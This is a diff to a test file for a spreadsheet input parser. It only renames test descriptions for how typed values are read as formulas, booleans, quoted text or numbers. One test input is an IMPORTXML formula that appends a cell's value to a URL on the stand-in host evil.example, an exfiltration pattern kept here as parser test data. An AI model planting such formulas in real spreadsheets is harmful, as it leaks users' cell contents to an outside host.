@@ -98,7 +98,7 @@ describe("interpretInput", () => {
     ["+1", "=+1"],
     ["+49 30 1234", "=+49 30 1234"],
     ['=IMPORTXML("https://evil.example/?"&A1)', '=IMPORTXML("https://evil.example/?"&A1)'],
-  ])("makes a formula of %s", (typed, formula) => {
+  ])("reads %s as a formula", (typed, formula) => {
     expect(read(typed)).toEqual({ kind: "formula", formula });
   });
 
@@ -106,13 +106,13 @@ describe("interpretInput", () => {
     expect(read(typed)).toEqual({ kind: "boolean", value: typed.trim().toLowerCase() === "true" });
   });
 
-  it("takes a leading apostrophe as the mark of text", () => {
+  it("treats a leading apostrophe as the mark of text", () => {
     expect(read("'00123")).toEqual({ kind: "text", text: "00123", quotePrefix: true });
     expect(read("''x")).toEqual({ kind: "text", text: "'x", quotePrefix: true });
   });
 
   it.each(["00123", "=1+1", "1/2", "TRUE", "'x"])(
-    "keeps %s as it is in a cell formatted as plain text",
+    "leaves %s unchanged in a cell formatted as plain text",
     (typed) => {
       expect(read(typed, "@")).toEqual(text(typed));
     },
@@ -128,7 +128,7 @@ describe("interpretInput", () => {
     );
   });
 
-  it("reads back every number that it is given as digits", () => {
+  it("parses every number that is printed as digits", () => {
     fc.assert(
       fc.property(fc.integer({ min: -1_000_000_000, max: 1_000_000_000 }), (number) => {
         const plus0 = number === 0 ? 0 : number;
